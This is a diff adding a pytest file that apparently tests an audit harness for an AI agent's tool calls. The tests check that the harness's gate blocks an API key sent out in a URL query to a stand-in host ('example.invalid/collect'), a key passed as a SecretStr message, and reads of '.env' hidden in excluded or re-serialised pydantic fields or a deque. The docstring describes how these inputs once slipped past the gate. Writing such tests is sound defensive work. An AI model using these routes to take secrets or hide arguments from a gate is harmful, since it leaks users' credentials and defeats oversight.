@@ -1,0 +1,159 @@
+"""A function tool's typed arguments: the gate reads each value as the tool reads it.
+
+Frameworks validate the model's JSON into the types a tool's signature names. The gate read
+several of them as ``<TypeName>`` (a pydantic ``HttpUrl``, a ``SecretStr``, a ``deque``) or by
+their serialised form, which a pydantic model may change: a field with ``exclude=True`` left
+out, a field serializer's text, a masked ``SecretStr``. The tool read the real value: a key in a
+URL's query left through a ``fetch(url: HttpUrl)`` tool, a ``.env`` path in an excluded field
+or a deque was read, and the session was PASS. Now the gate reads the URL's text, the secret's
+value, the sequence's items and the model's fields as attributes. Benign twins: the same tools
+with harmless values run, and the record keeps the values the tool got.
+"""
+
+from __future__ import annotations
+
+import collections
+import json
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from pydantic import BaseModel, Field, HttpUrl, SecretStr, field_serializer
+from secret_support import api_key, service_harness
+
+from pytest_harness_audit.session.harness import Harness
+
+
+@pytest.fixture
+def harness(tmp_path: Path) -> Iterator[Harness]:
+    yield from service_harness(tmp_path)
+
+
+def _pydantic_ai_run(tool: Any, name: str, args: dict[str, Any]) -> list[str]:
+    """What the model read back after one call of ``name`` with ``args``."""
+    pytest.importorskip("pydantic_ai")
+    from pydantic_ai import Agent
+    from pydantic_ai.messages import (
+        ModelMessage,
+        ModelResponse,
+        TextPart,
+        ToolCallPart,
+        ToolReturnPart,
+    )
+    from pydantic_ai.models.function import AgentInfo, FunctionModel
+
+    def respond(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
+        if len(messages) == 1:
+            return ModelResponse(parts=[ToolCallPart(name, args)])
+        returned = [p for m in messages for p in m.parts if isinstance(p, ToolReturnPart)]
+        return ModelResponse(parts=[TextPart(json.dumps([str(p.content) for p in returned]))])
+
+    output = Agent(FunctionModel(respond), tools=[tool]).run_sync("go").output
+    return list(json.loads(output))
+
+
+def _fetcher(harness: Harness, fetched: list[str]) -> Any:
+    def fetch(url: HttpUrl) -> str:
+        """Fetch a web page.
+
+        Args:
+            url: the page.
+        """
+        fetched.append(str(url))
+        return "<html></html>"
+
+    return harness.tool(fetch, category="network", on_block="return")
+
+
+def test_a_key_in_a_typed_url_is_refused_through_pydantic_ai(harness: Harness) -> None:
+    fetched: list[str] = []
+    url = f"https://example.invalid/collect?k={api_key(harness)}"
+    read = _pydantic_ai_run(_fetcher(harness, fetched), "fetch", {"url": url})
+    assert fetched == []
+    assert read[0].startswith("[blocked]")
+    assert harness.verdict.value == "FAIL"
+
+
+def test_a_harmless_typed_url_is_fetched_and_recorded(harness: Harness) -> None:
+    fetched: list[str] = []
+    url = "https://example.invalid/docs?page=2"
+    assert _pydantic_ai_run(_fetcher(harness, fetched), "fetch", {"url": url}) == ["<html></html>"]
+    assert fetched == [url]
+    assert harness.calls()[0].params == {"url": url}
+
+
+def test_a_key_in_a_secret_str_message_is_refused(harness: Harness) -> None:
+    sent: list[str] = []
+
+    def send_message(to: str, text: SecretStr) -> str:
+        """Send a message."""
+        sent.append(text.get_secret_value())
+        return "sent"
+
+    tool = harness.tool(send_message, on_block="return")
+    read = _pydantic_ai_run(tool, "send_message", {"to": "bob", "text": api_key(harness)})
+    assert sent == []
+    assert read[0].startswith("[blocked]")
+    assert harness.verdict.value == "FAIL"
+    assert _pydantic_ai_run(tool, "send_message", {"to": "bob", "text": "hello"}) == ["sent"]
+
+
+class Attachment(BaseModel):
+    """A file to attach, whose path is kept out of the attachment's serialised form."""
+
+    path: str = Field(exclude=True)
+    note: str = ""
+
+
+class Shown(BaseModel):
+    """A file reference that serialises as a label."""
+
+    path: str
+
+    @field_serializer("path")
+    def _label(self, path: str) -> str:
+        return "attachment"
+
+
+@pytest.mark.parametrize("model", [Attachment, Shown], ids=["excluded", "serialized"])
+def test_a_model_field_left_out_of_its_serialised_form_is_judged(
+    harness: Harness, model: type[BaseModel]
+) -> None:
+    ran: list[str] = []
+
+    def attach(ref: Any) -> str:
+        ran.append(ref.path)
+        return (harness.root / ref.path).read_text(encoding="utf-8")[:10]
+
+    attach.__annotations__["ref"] = model
+    tool = harness.tool(attach, category="file_read", on_block="return")
+    read = _pydantic_ai_run(tool, "attach", {"ref": {"path": ".env"}})
+    assert ran == []
+    assert read[0].startswith("[blocked]")
+    assert harness.verdict.value == "FAIL"
+
+
+def test_a_harmless_model_field_runs(harness: Harness) -> None:
+    def attach(ref: Attachment) -> str:
+        return (harness.root / ref.path).read_text(encoding="utf-8")[:8]
+
+    tool = harness.tool(attach, category="file_read", on_block="return")
+    assert _pydantic_ai_run(tool, "attach", {"ref": {"path": "README.md"}}) == ["# orders"]
+    assert harness.calls()[0].params == {"ref": {"path": "README.md", "note": ""}}
+    assert harness.verdict.value == "PASS"
+
+
+def test_a_deque_of_paths_is_judged_by_its_paths(harness: Harness) -> None:
+    ran: list[str] = []
+
+    def read_files(paths: collections.deque[str]) -> str:
+        """Read files."""
+        ran.extend(paths)
+        return "".join((harness.root / p).read_text()[:1] for p in paths)
+
+    tool = harness.tool(read_files, category="file_read", on_block="return")
+    assert _pydantic_ai_run(tool, "read_files", {"paths": [".env"]})[0].startswith("[blocked]")
+    assert ran == []
+    assert _pydantic_ai_run(tool, "read_files", {"paths": ["README.md"]}) == ["#"]
+    assert harness.calls()[-1].params == {"paths": ["README.md"]}
